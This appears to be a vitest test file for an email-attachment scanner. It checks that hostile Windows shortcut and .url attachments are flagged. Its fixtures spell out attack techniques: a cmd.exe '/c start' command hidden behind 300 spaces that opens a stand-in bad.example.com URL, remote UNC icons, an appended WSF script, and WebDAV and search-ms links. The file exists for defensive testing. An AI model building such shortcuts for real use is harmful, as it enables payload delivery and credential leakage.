import { aMail, lnk, script, zip } from '@sekisho/specimens'
import { describe, expect, test } from 'vitest'
import { inspected, spoke } from '../../testing/inspected.ts'

const urlFile = (...lines: string[]) => ({
  name: 'リンク.url',
  bytes: Buffer.from(['[InternetShortcut]', ...lines, ''].join('\r\n')),
})

describe('attachment.shortcut', () => {
  test('tells the command, its blanks drawn together and its address defanged', async () => {
    const shortcut = lnk({
      target: 'C:\\Windows\\System32\\cmd.exe',
      arguments: `/c start${' '.repeat(300)}https://bad.example.com/x.txt`,
      iconLocation: '\\\\files.example.com\\a\\i.ico',
    })
    const { verdict, reason, artifacts, detections } = await inspected(aMail().attaching(zip().with(shortcut)))
    expect(verdict).toBe('malicious')
    expect(reason.ja).toContain('C:\\Windows\\System32\\cmd.exe /c start hxxps://bad[.]example[.]com/x.txt')
    expect(artifacts.at(-1)?.facts).toMatchObject({ argumentsPadding: 300, ICON_LOCATION: '\\\\files.example.com\\a\\i.ico' })
    const observed = detections.find(({ id }) => id === 'attachment.shortcut')?.evidence.map((one) => one.observed)
    expect(observed).toContain('300 blanks in the arguments')
    expect(observed).toContain('icon from \\\\files.example.com\\a\\i.ico')
  })

  test('what was appended is told and looked into', async () => {
    const { detections, artifacts } = await inspected(aMail().attaching(lnk({ appended: script('wsf').bytes })))
    expect(detections.map(({ message }) => message.en).join('\n')).toContain('Behind the shortcut')
    expect(artifacts[1]?.type).toBe('application/x-wsf')
  })

  test('zeros behind the end are no payload', async () => {
    const { artifacts } = await inspected(aMail().attaching(lnk({ appended: Buffer.alloc(64) })))
    expect(artifacts).toHaveLength(1)
  })

  test.each([
    ['a file of another computer', urlFile('URL=file://192.0.2.1/a/b.js')],
    ['WebDAV', urlFile('URL=\\\\files.example.com@80\\a\\b.exe')],
    ['an icon that is fetched', urlFile('URL=https://www.example.com/', 'IconFile=\\\\192.0.2.1\\i.ico')],
    ['a protocol that starts a program', urlFile('URL=search-ms:query=x&crumb=location:\\\\192.0.2.1\\a')],
  ])('%s', async (_, file) => {
    expect((await inspected(aMail().attaching(file))).verdict).toBe('malicious')
  })

  test('an address of a page is doubtful only', async () => {
    const inspection = await inspected(aMail().attaching(urlFile('URL=https://www.example.com/a', 'IconFile=C:\\Windows\\x.ico')))
    expect(spoke(inspection)).toEqual(['attachment.shortcut'])
    expect(inspection.verdict).toBe('suspicious')
  })
})
